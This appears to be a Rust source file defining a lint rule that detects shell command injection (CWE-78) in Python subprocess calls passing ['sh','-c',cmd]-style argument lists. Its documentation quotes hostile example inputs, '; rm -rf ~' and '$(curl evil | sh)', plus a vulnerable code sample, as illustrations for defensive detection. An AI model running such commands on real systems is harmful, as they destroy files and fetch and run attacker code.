use super::commands::{Command, command_functions, command_of, is_quoted};
use crate::CallFilter;
use crate::checker::Checker;
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::commands::{CodeWord, interpreter};
use vigil_python::Ranged;
use vigil_python::ast::{Expr, ExprCall};
use vigil_report::{Confidence, Severity};

/// In an argument list that starts a shell with a command string
/// (`["sh", "-c", cmd]`, `["cmd", "/c", cmd]`, `["pwsh", "-Command", cmd]`),
/// the command string. A program that is one of a few shells, whichever
/// branch chose it (`shell = "bash" if login else "sh"`), is a shell.
pub fn shell_payload<'e, 'a: 'e>(checker: &Checker<'a>, words: &[&'e Expr]) -> Option<&'e Expr> {
    let literal = |e: &Expr| checker.string(e);
    let shell_of = |e: &Expr| {
        let kinds: Vec<_> = checker
            .strings(e)
            .iter()
            .map(|s| interpreter(s).filter(|kind| kind.is_shell()))
            .collect::<Option<_>>()?;
        kinds.first().copied()
    };
    let (shell_at, shell) = words
        .iter()
        .take(4)
        .enumerate()
        .find_map(|(i, w)| shell_of(w).map(|kind| (i, kind)))?;
    let after = &words[shell_at + 1..];
    let texts: Vec<Option<String>> = after.iter().map(|w| literal(w)).collect();
    let texts: Vec<Option<&str>> = texts.iter().map(Option::as_deref).collect();
    match shell.code_word(&texts) {
        CodeWord::At(i) => Some(after[i]),
        CodeWord::MaybeFrom(_) | CodeWord::Absent => None,
    }
}

fn check(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
    let Some(qualified) = qualified else { return };
    let Some(Command::Argv(words)) = command_of(checker, call, qualified) else {
        return;
    };
    let Some(payload) = shell_payload(checker, &words) else {
        return;
    };
    if is_quoted(checker, payload) {
        return;
    }
    let message = format!(
        "`{}` starts a shell with a command string built at run time (`{}`): shell metacharacters in it are executed",
        checker.snippet(&*call.func),
        checker.snippet(payload),
    );
    checker.report(&RULE, call.range(), message);
}

declare_rule! {
    /// ## What it does
    /// Flags programs started with an argument list that runs a shell on a
    /// command string built at run time: `["sh", "-c", cmd]`,
    /// `["bash", "-lc", cmd]`, `["cmd", "/c", cmd]`,
    /// `["powershell", "-Command", cmd]`, with `subprocess`, `asyncio`,
    /// `os.exec*`/`os.posix_spawn` or `pty.spawn`.
    ///
    /// ## Why is this bad?
    /// Passing a list instead of `shell=True` looks safe, but the shell
    /// named first parses its command string exactly as `shell=True`
    /// would: `; rm -rf ~` or `$(curl evil | sh)` inside it runs. Parts
    /// quoted with `shlex.quote` are accepted.
    ///
    /// ## Example
    /// ```python
    /// subprocess.run(["bash", "-c", f"grep {pattern} /var/log/app.log"])
    /// ```
    ///
    /// ## Use instead
    /// Run the program directly with one list element per argument:
    /// ```python
    /// subprocess.run(["grep", "--", pattern, "/var/log/app.log"])
    /// ```
    /// If a shell is needed, quote every dynamic part with `shlex.quote()`.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    pub static RULE = {
        name: "subprocess-shell-argv",
        category: Category::Injection,
        cwe: &[78],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &[],
        ruff: &[],
        help: "Run the program directly with a list of arguments instead of `sh -c`; if a shell is needed, quote every dynamic part with `shlex.quote()`.",
        on_call: check,
        call_filter: CallFilter { names: command_functions, ..CallFilter::NONE },
    };
}
